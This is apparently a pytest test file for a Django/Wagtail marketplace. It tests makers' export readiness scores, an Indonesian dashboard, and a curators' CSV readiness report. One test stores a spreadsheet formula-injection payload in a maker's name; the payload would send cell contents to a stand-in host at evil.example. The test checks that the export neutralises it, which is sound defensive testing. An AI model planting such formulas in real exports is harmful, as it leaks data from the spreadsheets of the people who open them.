"""Export readiness score and checklist; the maker's Indonesian dashboard; the curators' readiness report."""

import csv
import datetime
import io

import pytest

from django.core.cache import cache

from wagtail.images import get_image_model
from wagtail.images.tests.utils import get_test_image_file

from catalog.models import ProductGalleryImage, VendorCertification, VendorPage
from catalog.readiness import readiness
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def ready_vendor_page(module_db):
    """A maker with everything the checklist asks for, built once for the module."""
    _home, _products, makers = factories.site()
    vendor = factories.make_vendor(
        makers,
        "Siap Ekspor Keramik",
        response_time_hours=24,
        story="<p>Since 1957 in Dinoyo.</p>",
    )
    vendor.certifications.add(
        VendorCertification(
            certification_type=factories.make_certification_type(),
            number="ID00000000000000",
            valid_until=datetime.date.today() + datetime.timedelta(days=365),
        )
    )
    factories.publish(vendor)
    image = get_image_model().objects.create(title="Photo", file=get_test_image_file())
    for index in range(3):
        product = factories.make_product(
            vendor, f"Ready product {index}", samples_available=index == 0, sample_price=500
        )
        product.gallery_images.add(ProductGalleryImage(image=image, alt_text="A product"))
        factories.publish(product)
    return vendor


@pytest.fixture
def ready_vendor(site_tree, ready_vendor_page):
    return factories.fresh(ready_vendor_page)


def test_a_maker_with_everything_scores_100(ready_vendor):
    result = readiness(ready_vendor)
    assert [item.key for item in result.items if not item.done] == []
    assert result.score == 100


@pytest.mark.parametrize(
    ("change", "key"),
    [
        ({"response_time_hours": 72}, "reply_time"),
        ({"nib": ""}, "nib"),
        ({"tagline": ""}, "english"),
    ],
)
def test_one_missing_item_lowers_the_score_and_is_unticked(ready_vendor, change, key):
    for field, value in change.items():
        setattr(ready_vendor, field, value)
    factories.publish(ready_vendor)
    result = readiness(ready_vendor)
    assert result.score == 86  # 6 of 7
    assert [item.key for item in result.items if not item.done] == [key]
    # Replies are written in the inbox; everything else on the maker's page.
    inbox = key == "reply_time"
    assert result.missing[0].fix_url == (
        "/admin/inquiries/" if inbox else f"/admin/pages/{ready_vendor.pk}/edit/"
    )


def test_a_makers_draft_counts_for_nothing_until_a_curator_approves_it(client, maker_a):
    """A new maker's profile, submitted with its NIB, certificate and English text, waits for review."""
    vendor = VendorPage.objects.get(pk=maker_a.vendor.pk)
    vendor.unpublish()
    vendor = VendorPage.objects.get(pk=maker_a.vendor.pk)
    vendor.nib = "0000000000000"
    vendor.tagline = "Porcelain from Dinoyo"
    vendor.story = "<p>Since 1957 in Dinoyo.</p>"
    vendor.certifications.add(
        VendorCertification(
            certification_type=factories.make_certification_type(),
            number="ID00000000000000",
            valid_until=datetime.date.today() + datetime.timedelta(days=365),
        )
    )
    vendor.save()  # as Wagtail's editor saves a page that is not live: into its row
    vendor.save_revision(user=maker_a.user)

    client.force_login(maker_a.user)
    body = client.get("/admin/").content.decode()
    for key in ("nib", "certifications", "english"):
        assert f'data-readiness="{key}" data-done="no"' in body, key

    factories.publish(vendor)  # the curator approves
    body = client.get("/admin/").content.decode()
    for key in ("nib", "certifications", "english"):
        assert f'data-readiness="{key}" data-done="yes"' in body, key


def test_an_expired_certificate_is_unticked(ready_vendor):
    VendorCertification.objects.filter(vendor=ready_vendor).update(valid_until=datetime.date(2020, 1, 1))
    result = readiness(VendorPage.objects.get(pk=ready_vendor.pk))
    assert {item.key for item in result.missing} == {"certifications"}
    # Readiness is measured on the maker's English page even when asked about a copy.
    indonesian = ready_vendor.get_translation(factories.locale("id"))
    assert readiness(indonesian).score == result.score


def test_makers_dashboard_is_indonesian_and_shows_only_its_own_things(
    client, maker_a, maker_b, inquiry_for_a
):
    client.force_login(maker_a.user)
    body = client.get("/admin/").content.decode()
    assert "Dasbor" in body  # Wagtail's Indonesian admin
    assert 'data-readiness="nib" data-done="no"' in body
    assert f'href="/admin/pages/{maker_a.vendor.pk}/edit/"' in body
    # "Replies to inquiries within 48 hours": its fix opens the inbox, where replies are written.
    reply_item = body[body.index('data-readiness="reply_time"') :].split("</li>")[0]
    assert 'href="/admin/inquiries/"' in reply_item
    assert "Atelier Alpha Porselen Vase" in body
    assert "Bengkel Beta Rotan" not in body
    assert 'data-new-inquiries="1"' in body
    assert 'data-sample-orders="0"' in body
    # Every product lacks its translations (the copies are aliases of the English page).
    assert body.count(f"/admin/pages/{maker_a.product.get_translation(factories.locale('id')).pk}/edit/") >= 1

    client.force_login(maker_b.user)
    assert 'data-new-inquiries="0"' in client.get("/admin/").content.decode()


@pytest.fixture
def inquiry_for_a(client, maker_a):
    cache.clear()
    response = client.post(
        f"/en/inquiries/new/?product={maker_a.product.pk}",
        {
            "name": "Hanna Vermeulen",
            "company": "Vermeulen Home Goods B.V.",
            "email": "buyer@importer.example",
            "country": "NL",
            "quantity": "250",
            "unit": "pieces",
            "incoterm": "FOB",
            "destination": "Rotterdam, NL",
            "message": "We would like a quotation for 250 vases in gift boxes.",
            "website": "",
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    cache.clear()


def test_curators_report_sorts_and_exports(curator_client, ready_vendor, maker_a, maker_b):
    by_score = curator_client.get("/admin/makers/readiness/?sort=-score").content.decode()
    assert by_score.index("Siap Ekspor Keramik") < by_score.index("Atelier Alpha Porselen")
    by_name = curator_client.get("/admin/makers/readiness/?sort=name").content.decode()
    assert by_name.index("Atelier Alpha") < by_name.index("Bengkel Beta") < by_name.index("Siap Ekspor")

    export = curator_client.get("/admin/makers/readiness/?sort=-score&export=csv")
    assert export["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[0][:4] == ["maker", "district", "sector", "score"]
    assert rows[1][0] == "Siap Ekspor Keramik" and rows[1][3] == "100"
    assert {row[0] for row in rows[1:]} == {
        "Siap Ekspor Keramik",
        "Atelier Alpha Porselen",
        "Bengkel Beta Rotan",
    }


def test_curators_report_export_keeps_a_formula_in_a_makers_name_as_text(curator_client, ready_vendor):
    ready_vendor.title = '=HYPERLINK("http://evil.example/?leak="&A2,"Siap Ekspor")'
    factories.publish(ready_vendor)

    export = curator_client.get("/admin/makers/readiness/?export=csv")

    names = [row[0] for row in csv.reader(io.StringIO(export.content.decode()))]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"Siap Ekspor")' in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_makers_cannot_open_the_report(client_a):
    response = client_a.get("/admin/makers/readiness/")
    assert response.status_code in (302, 403)
    assert "Siap Ekspor" not in response.content.decode()
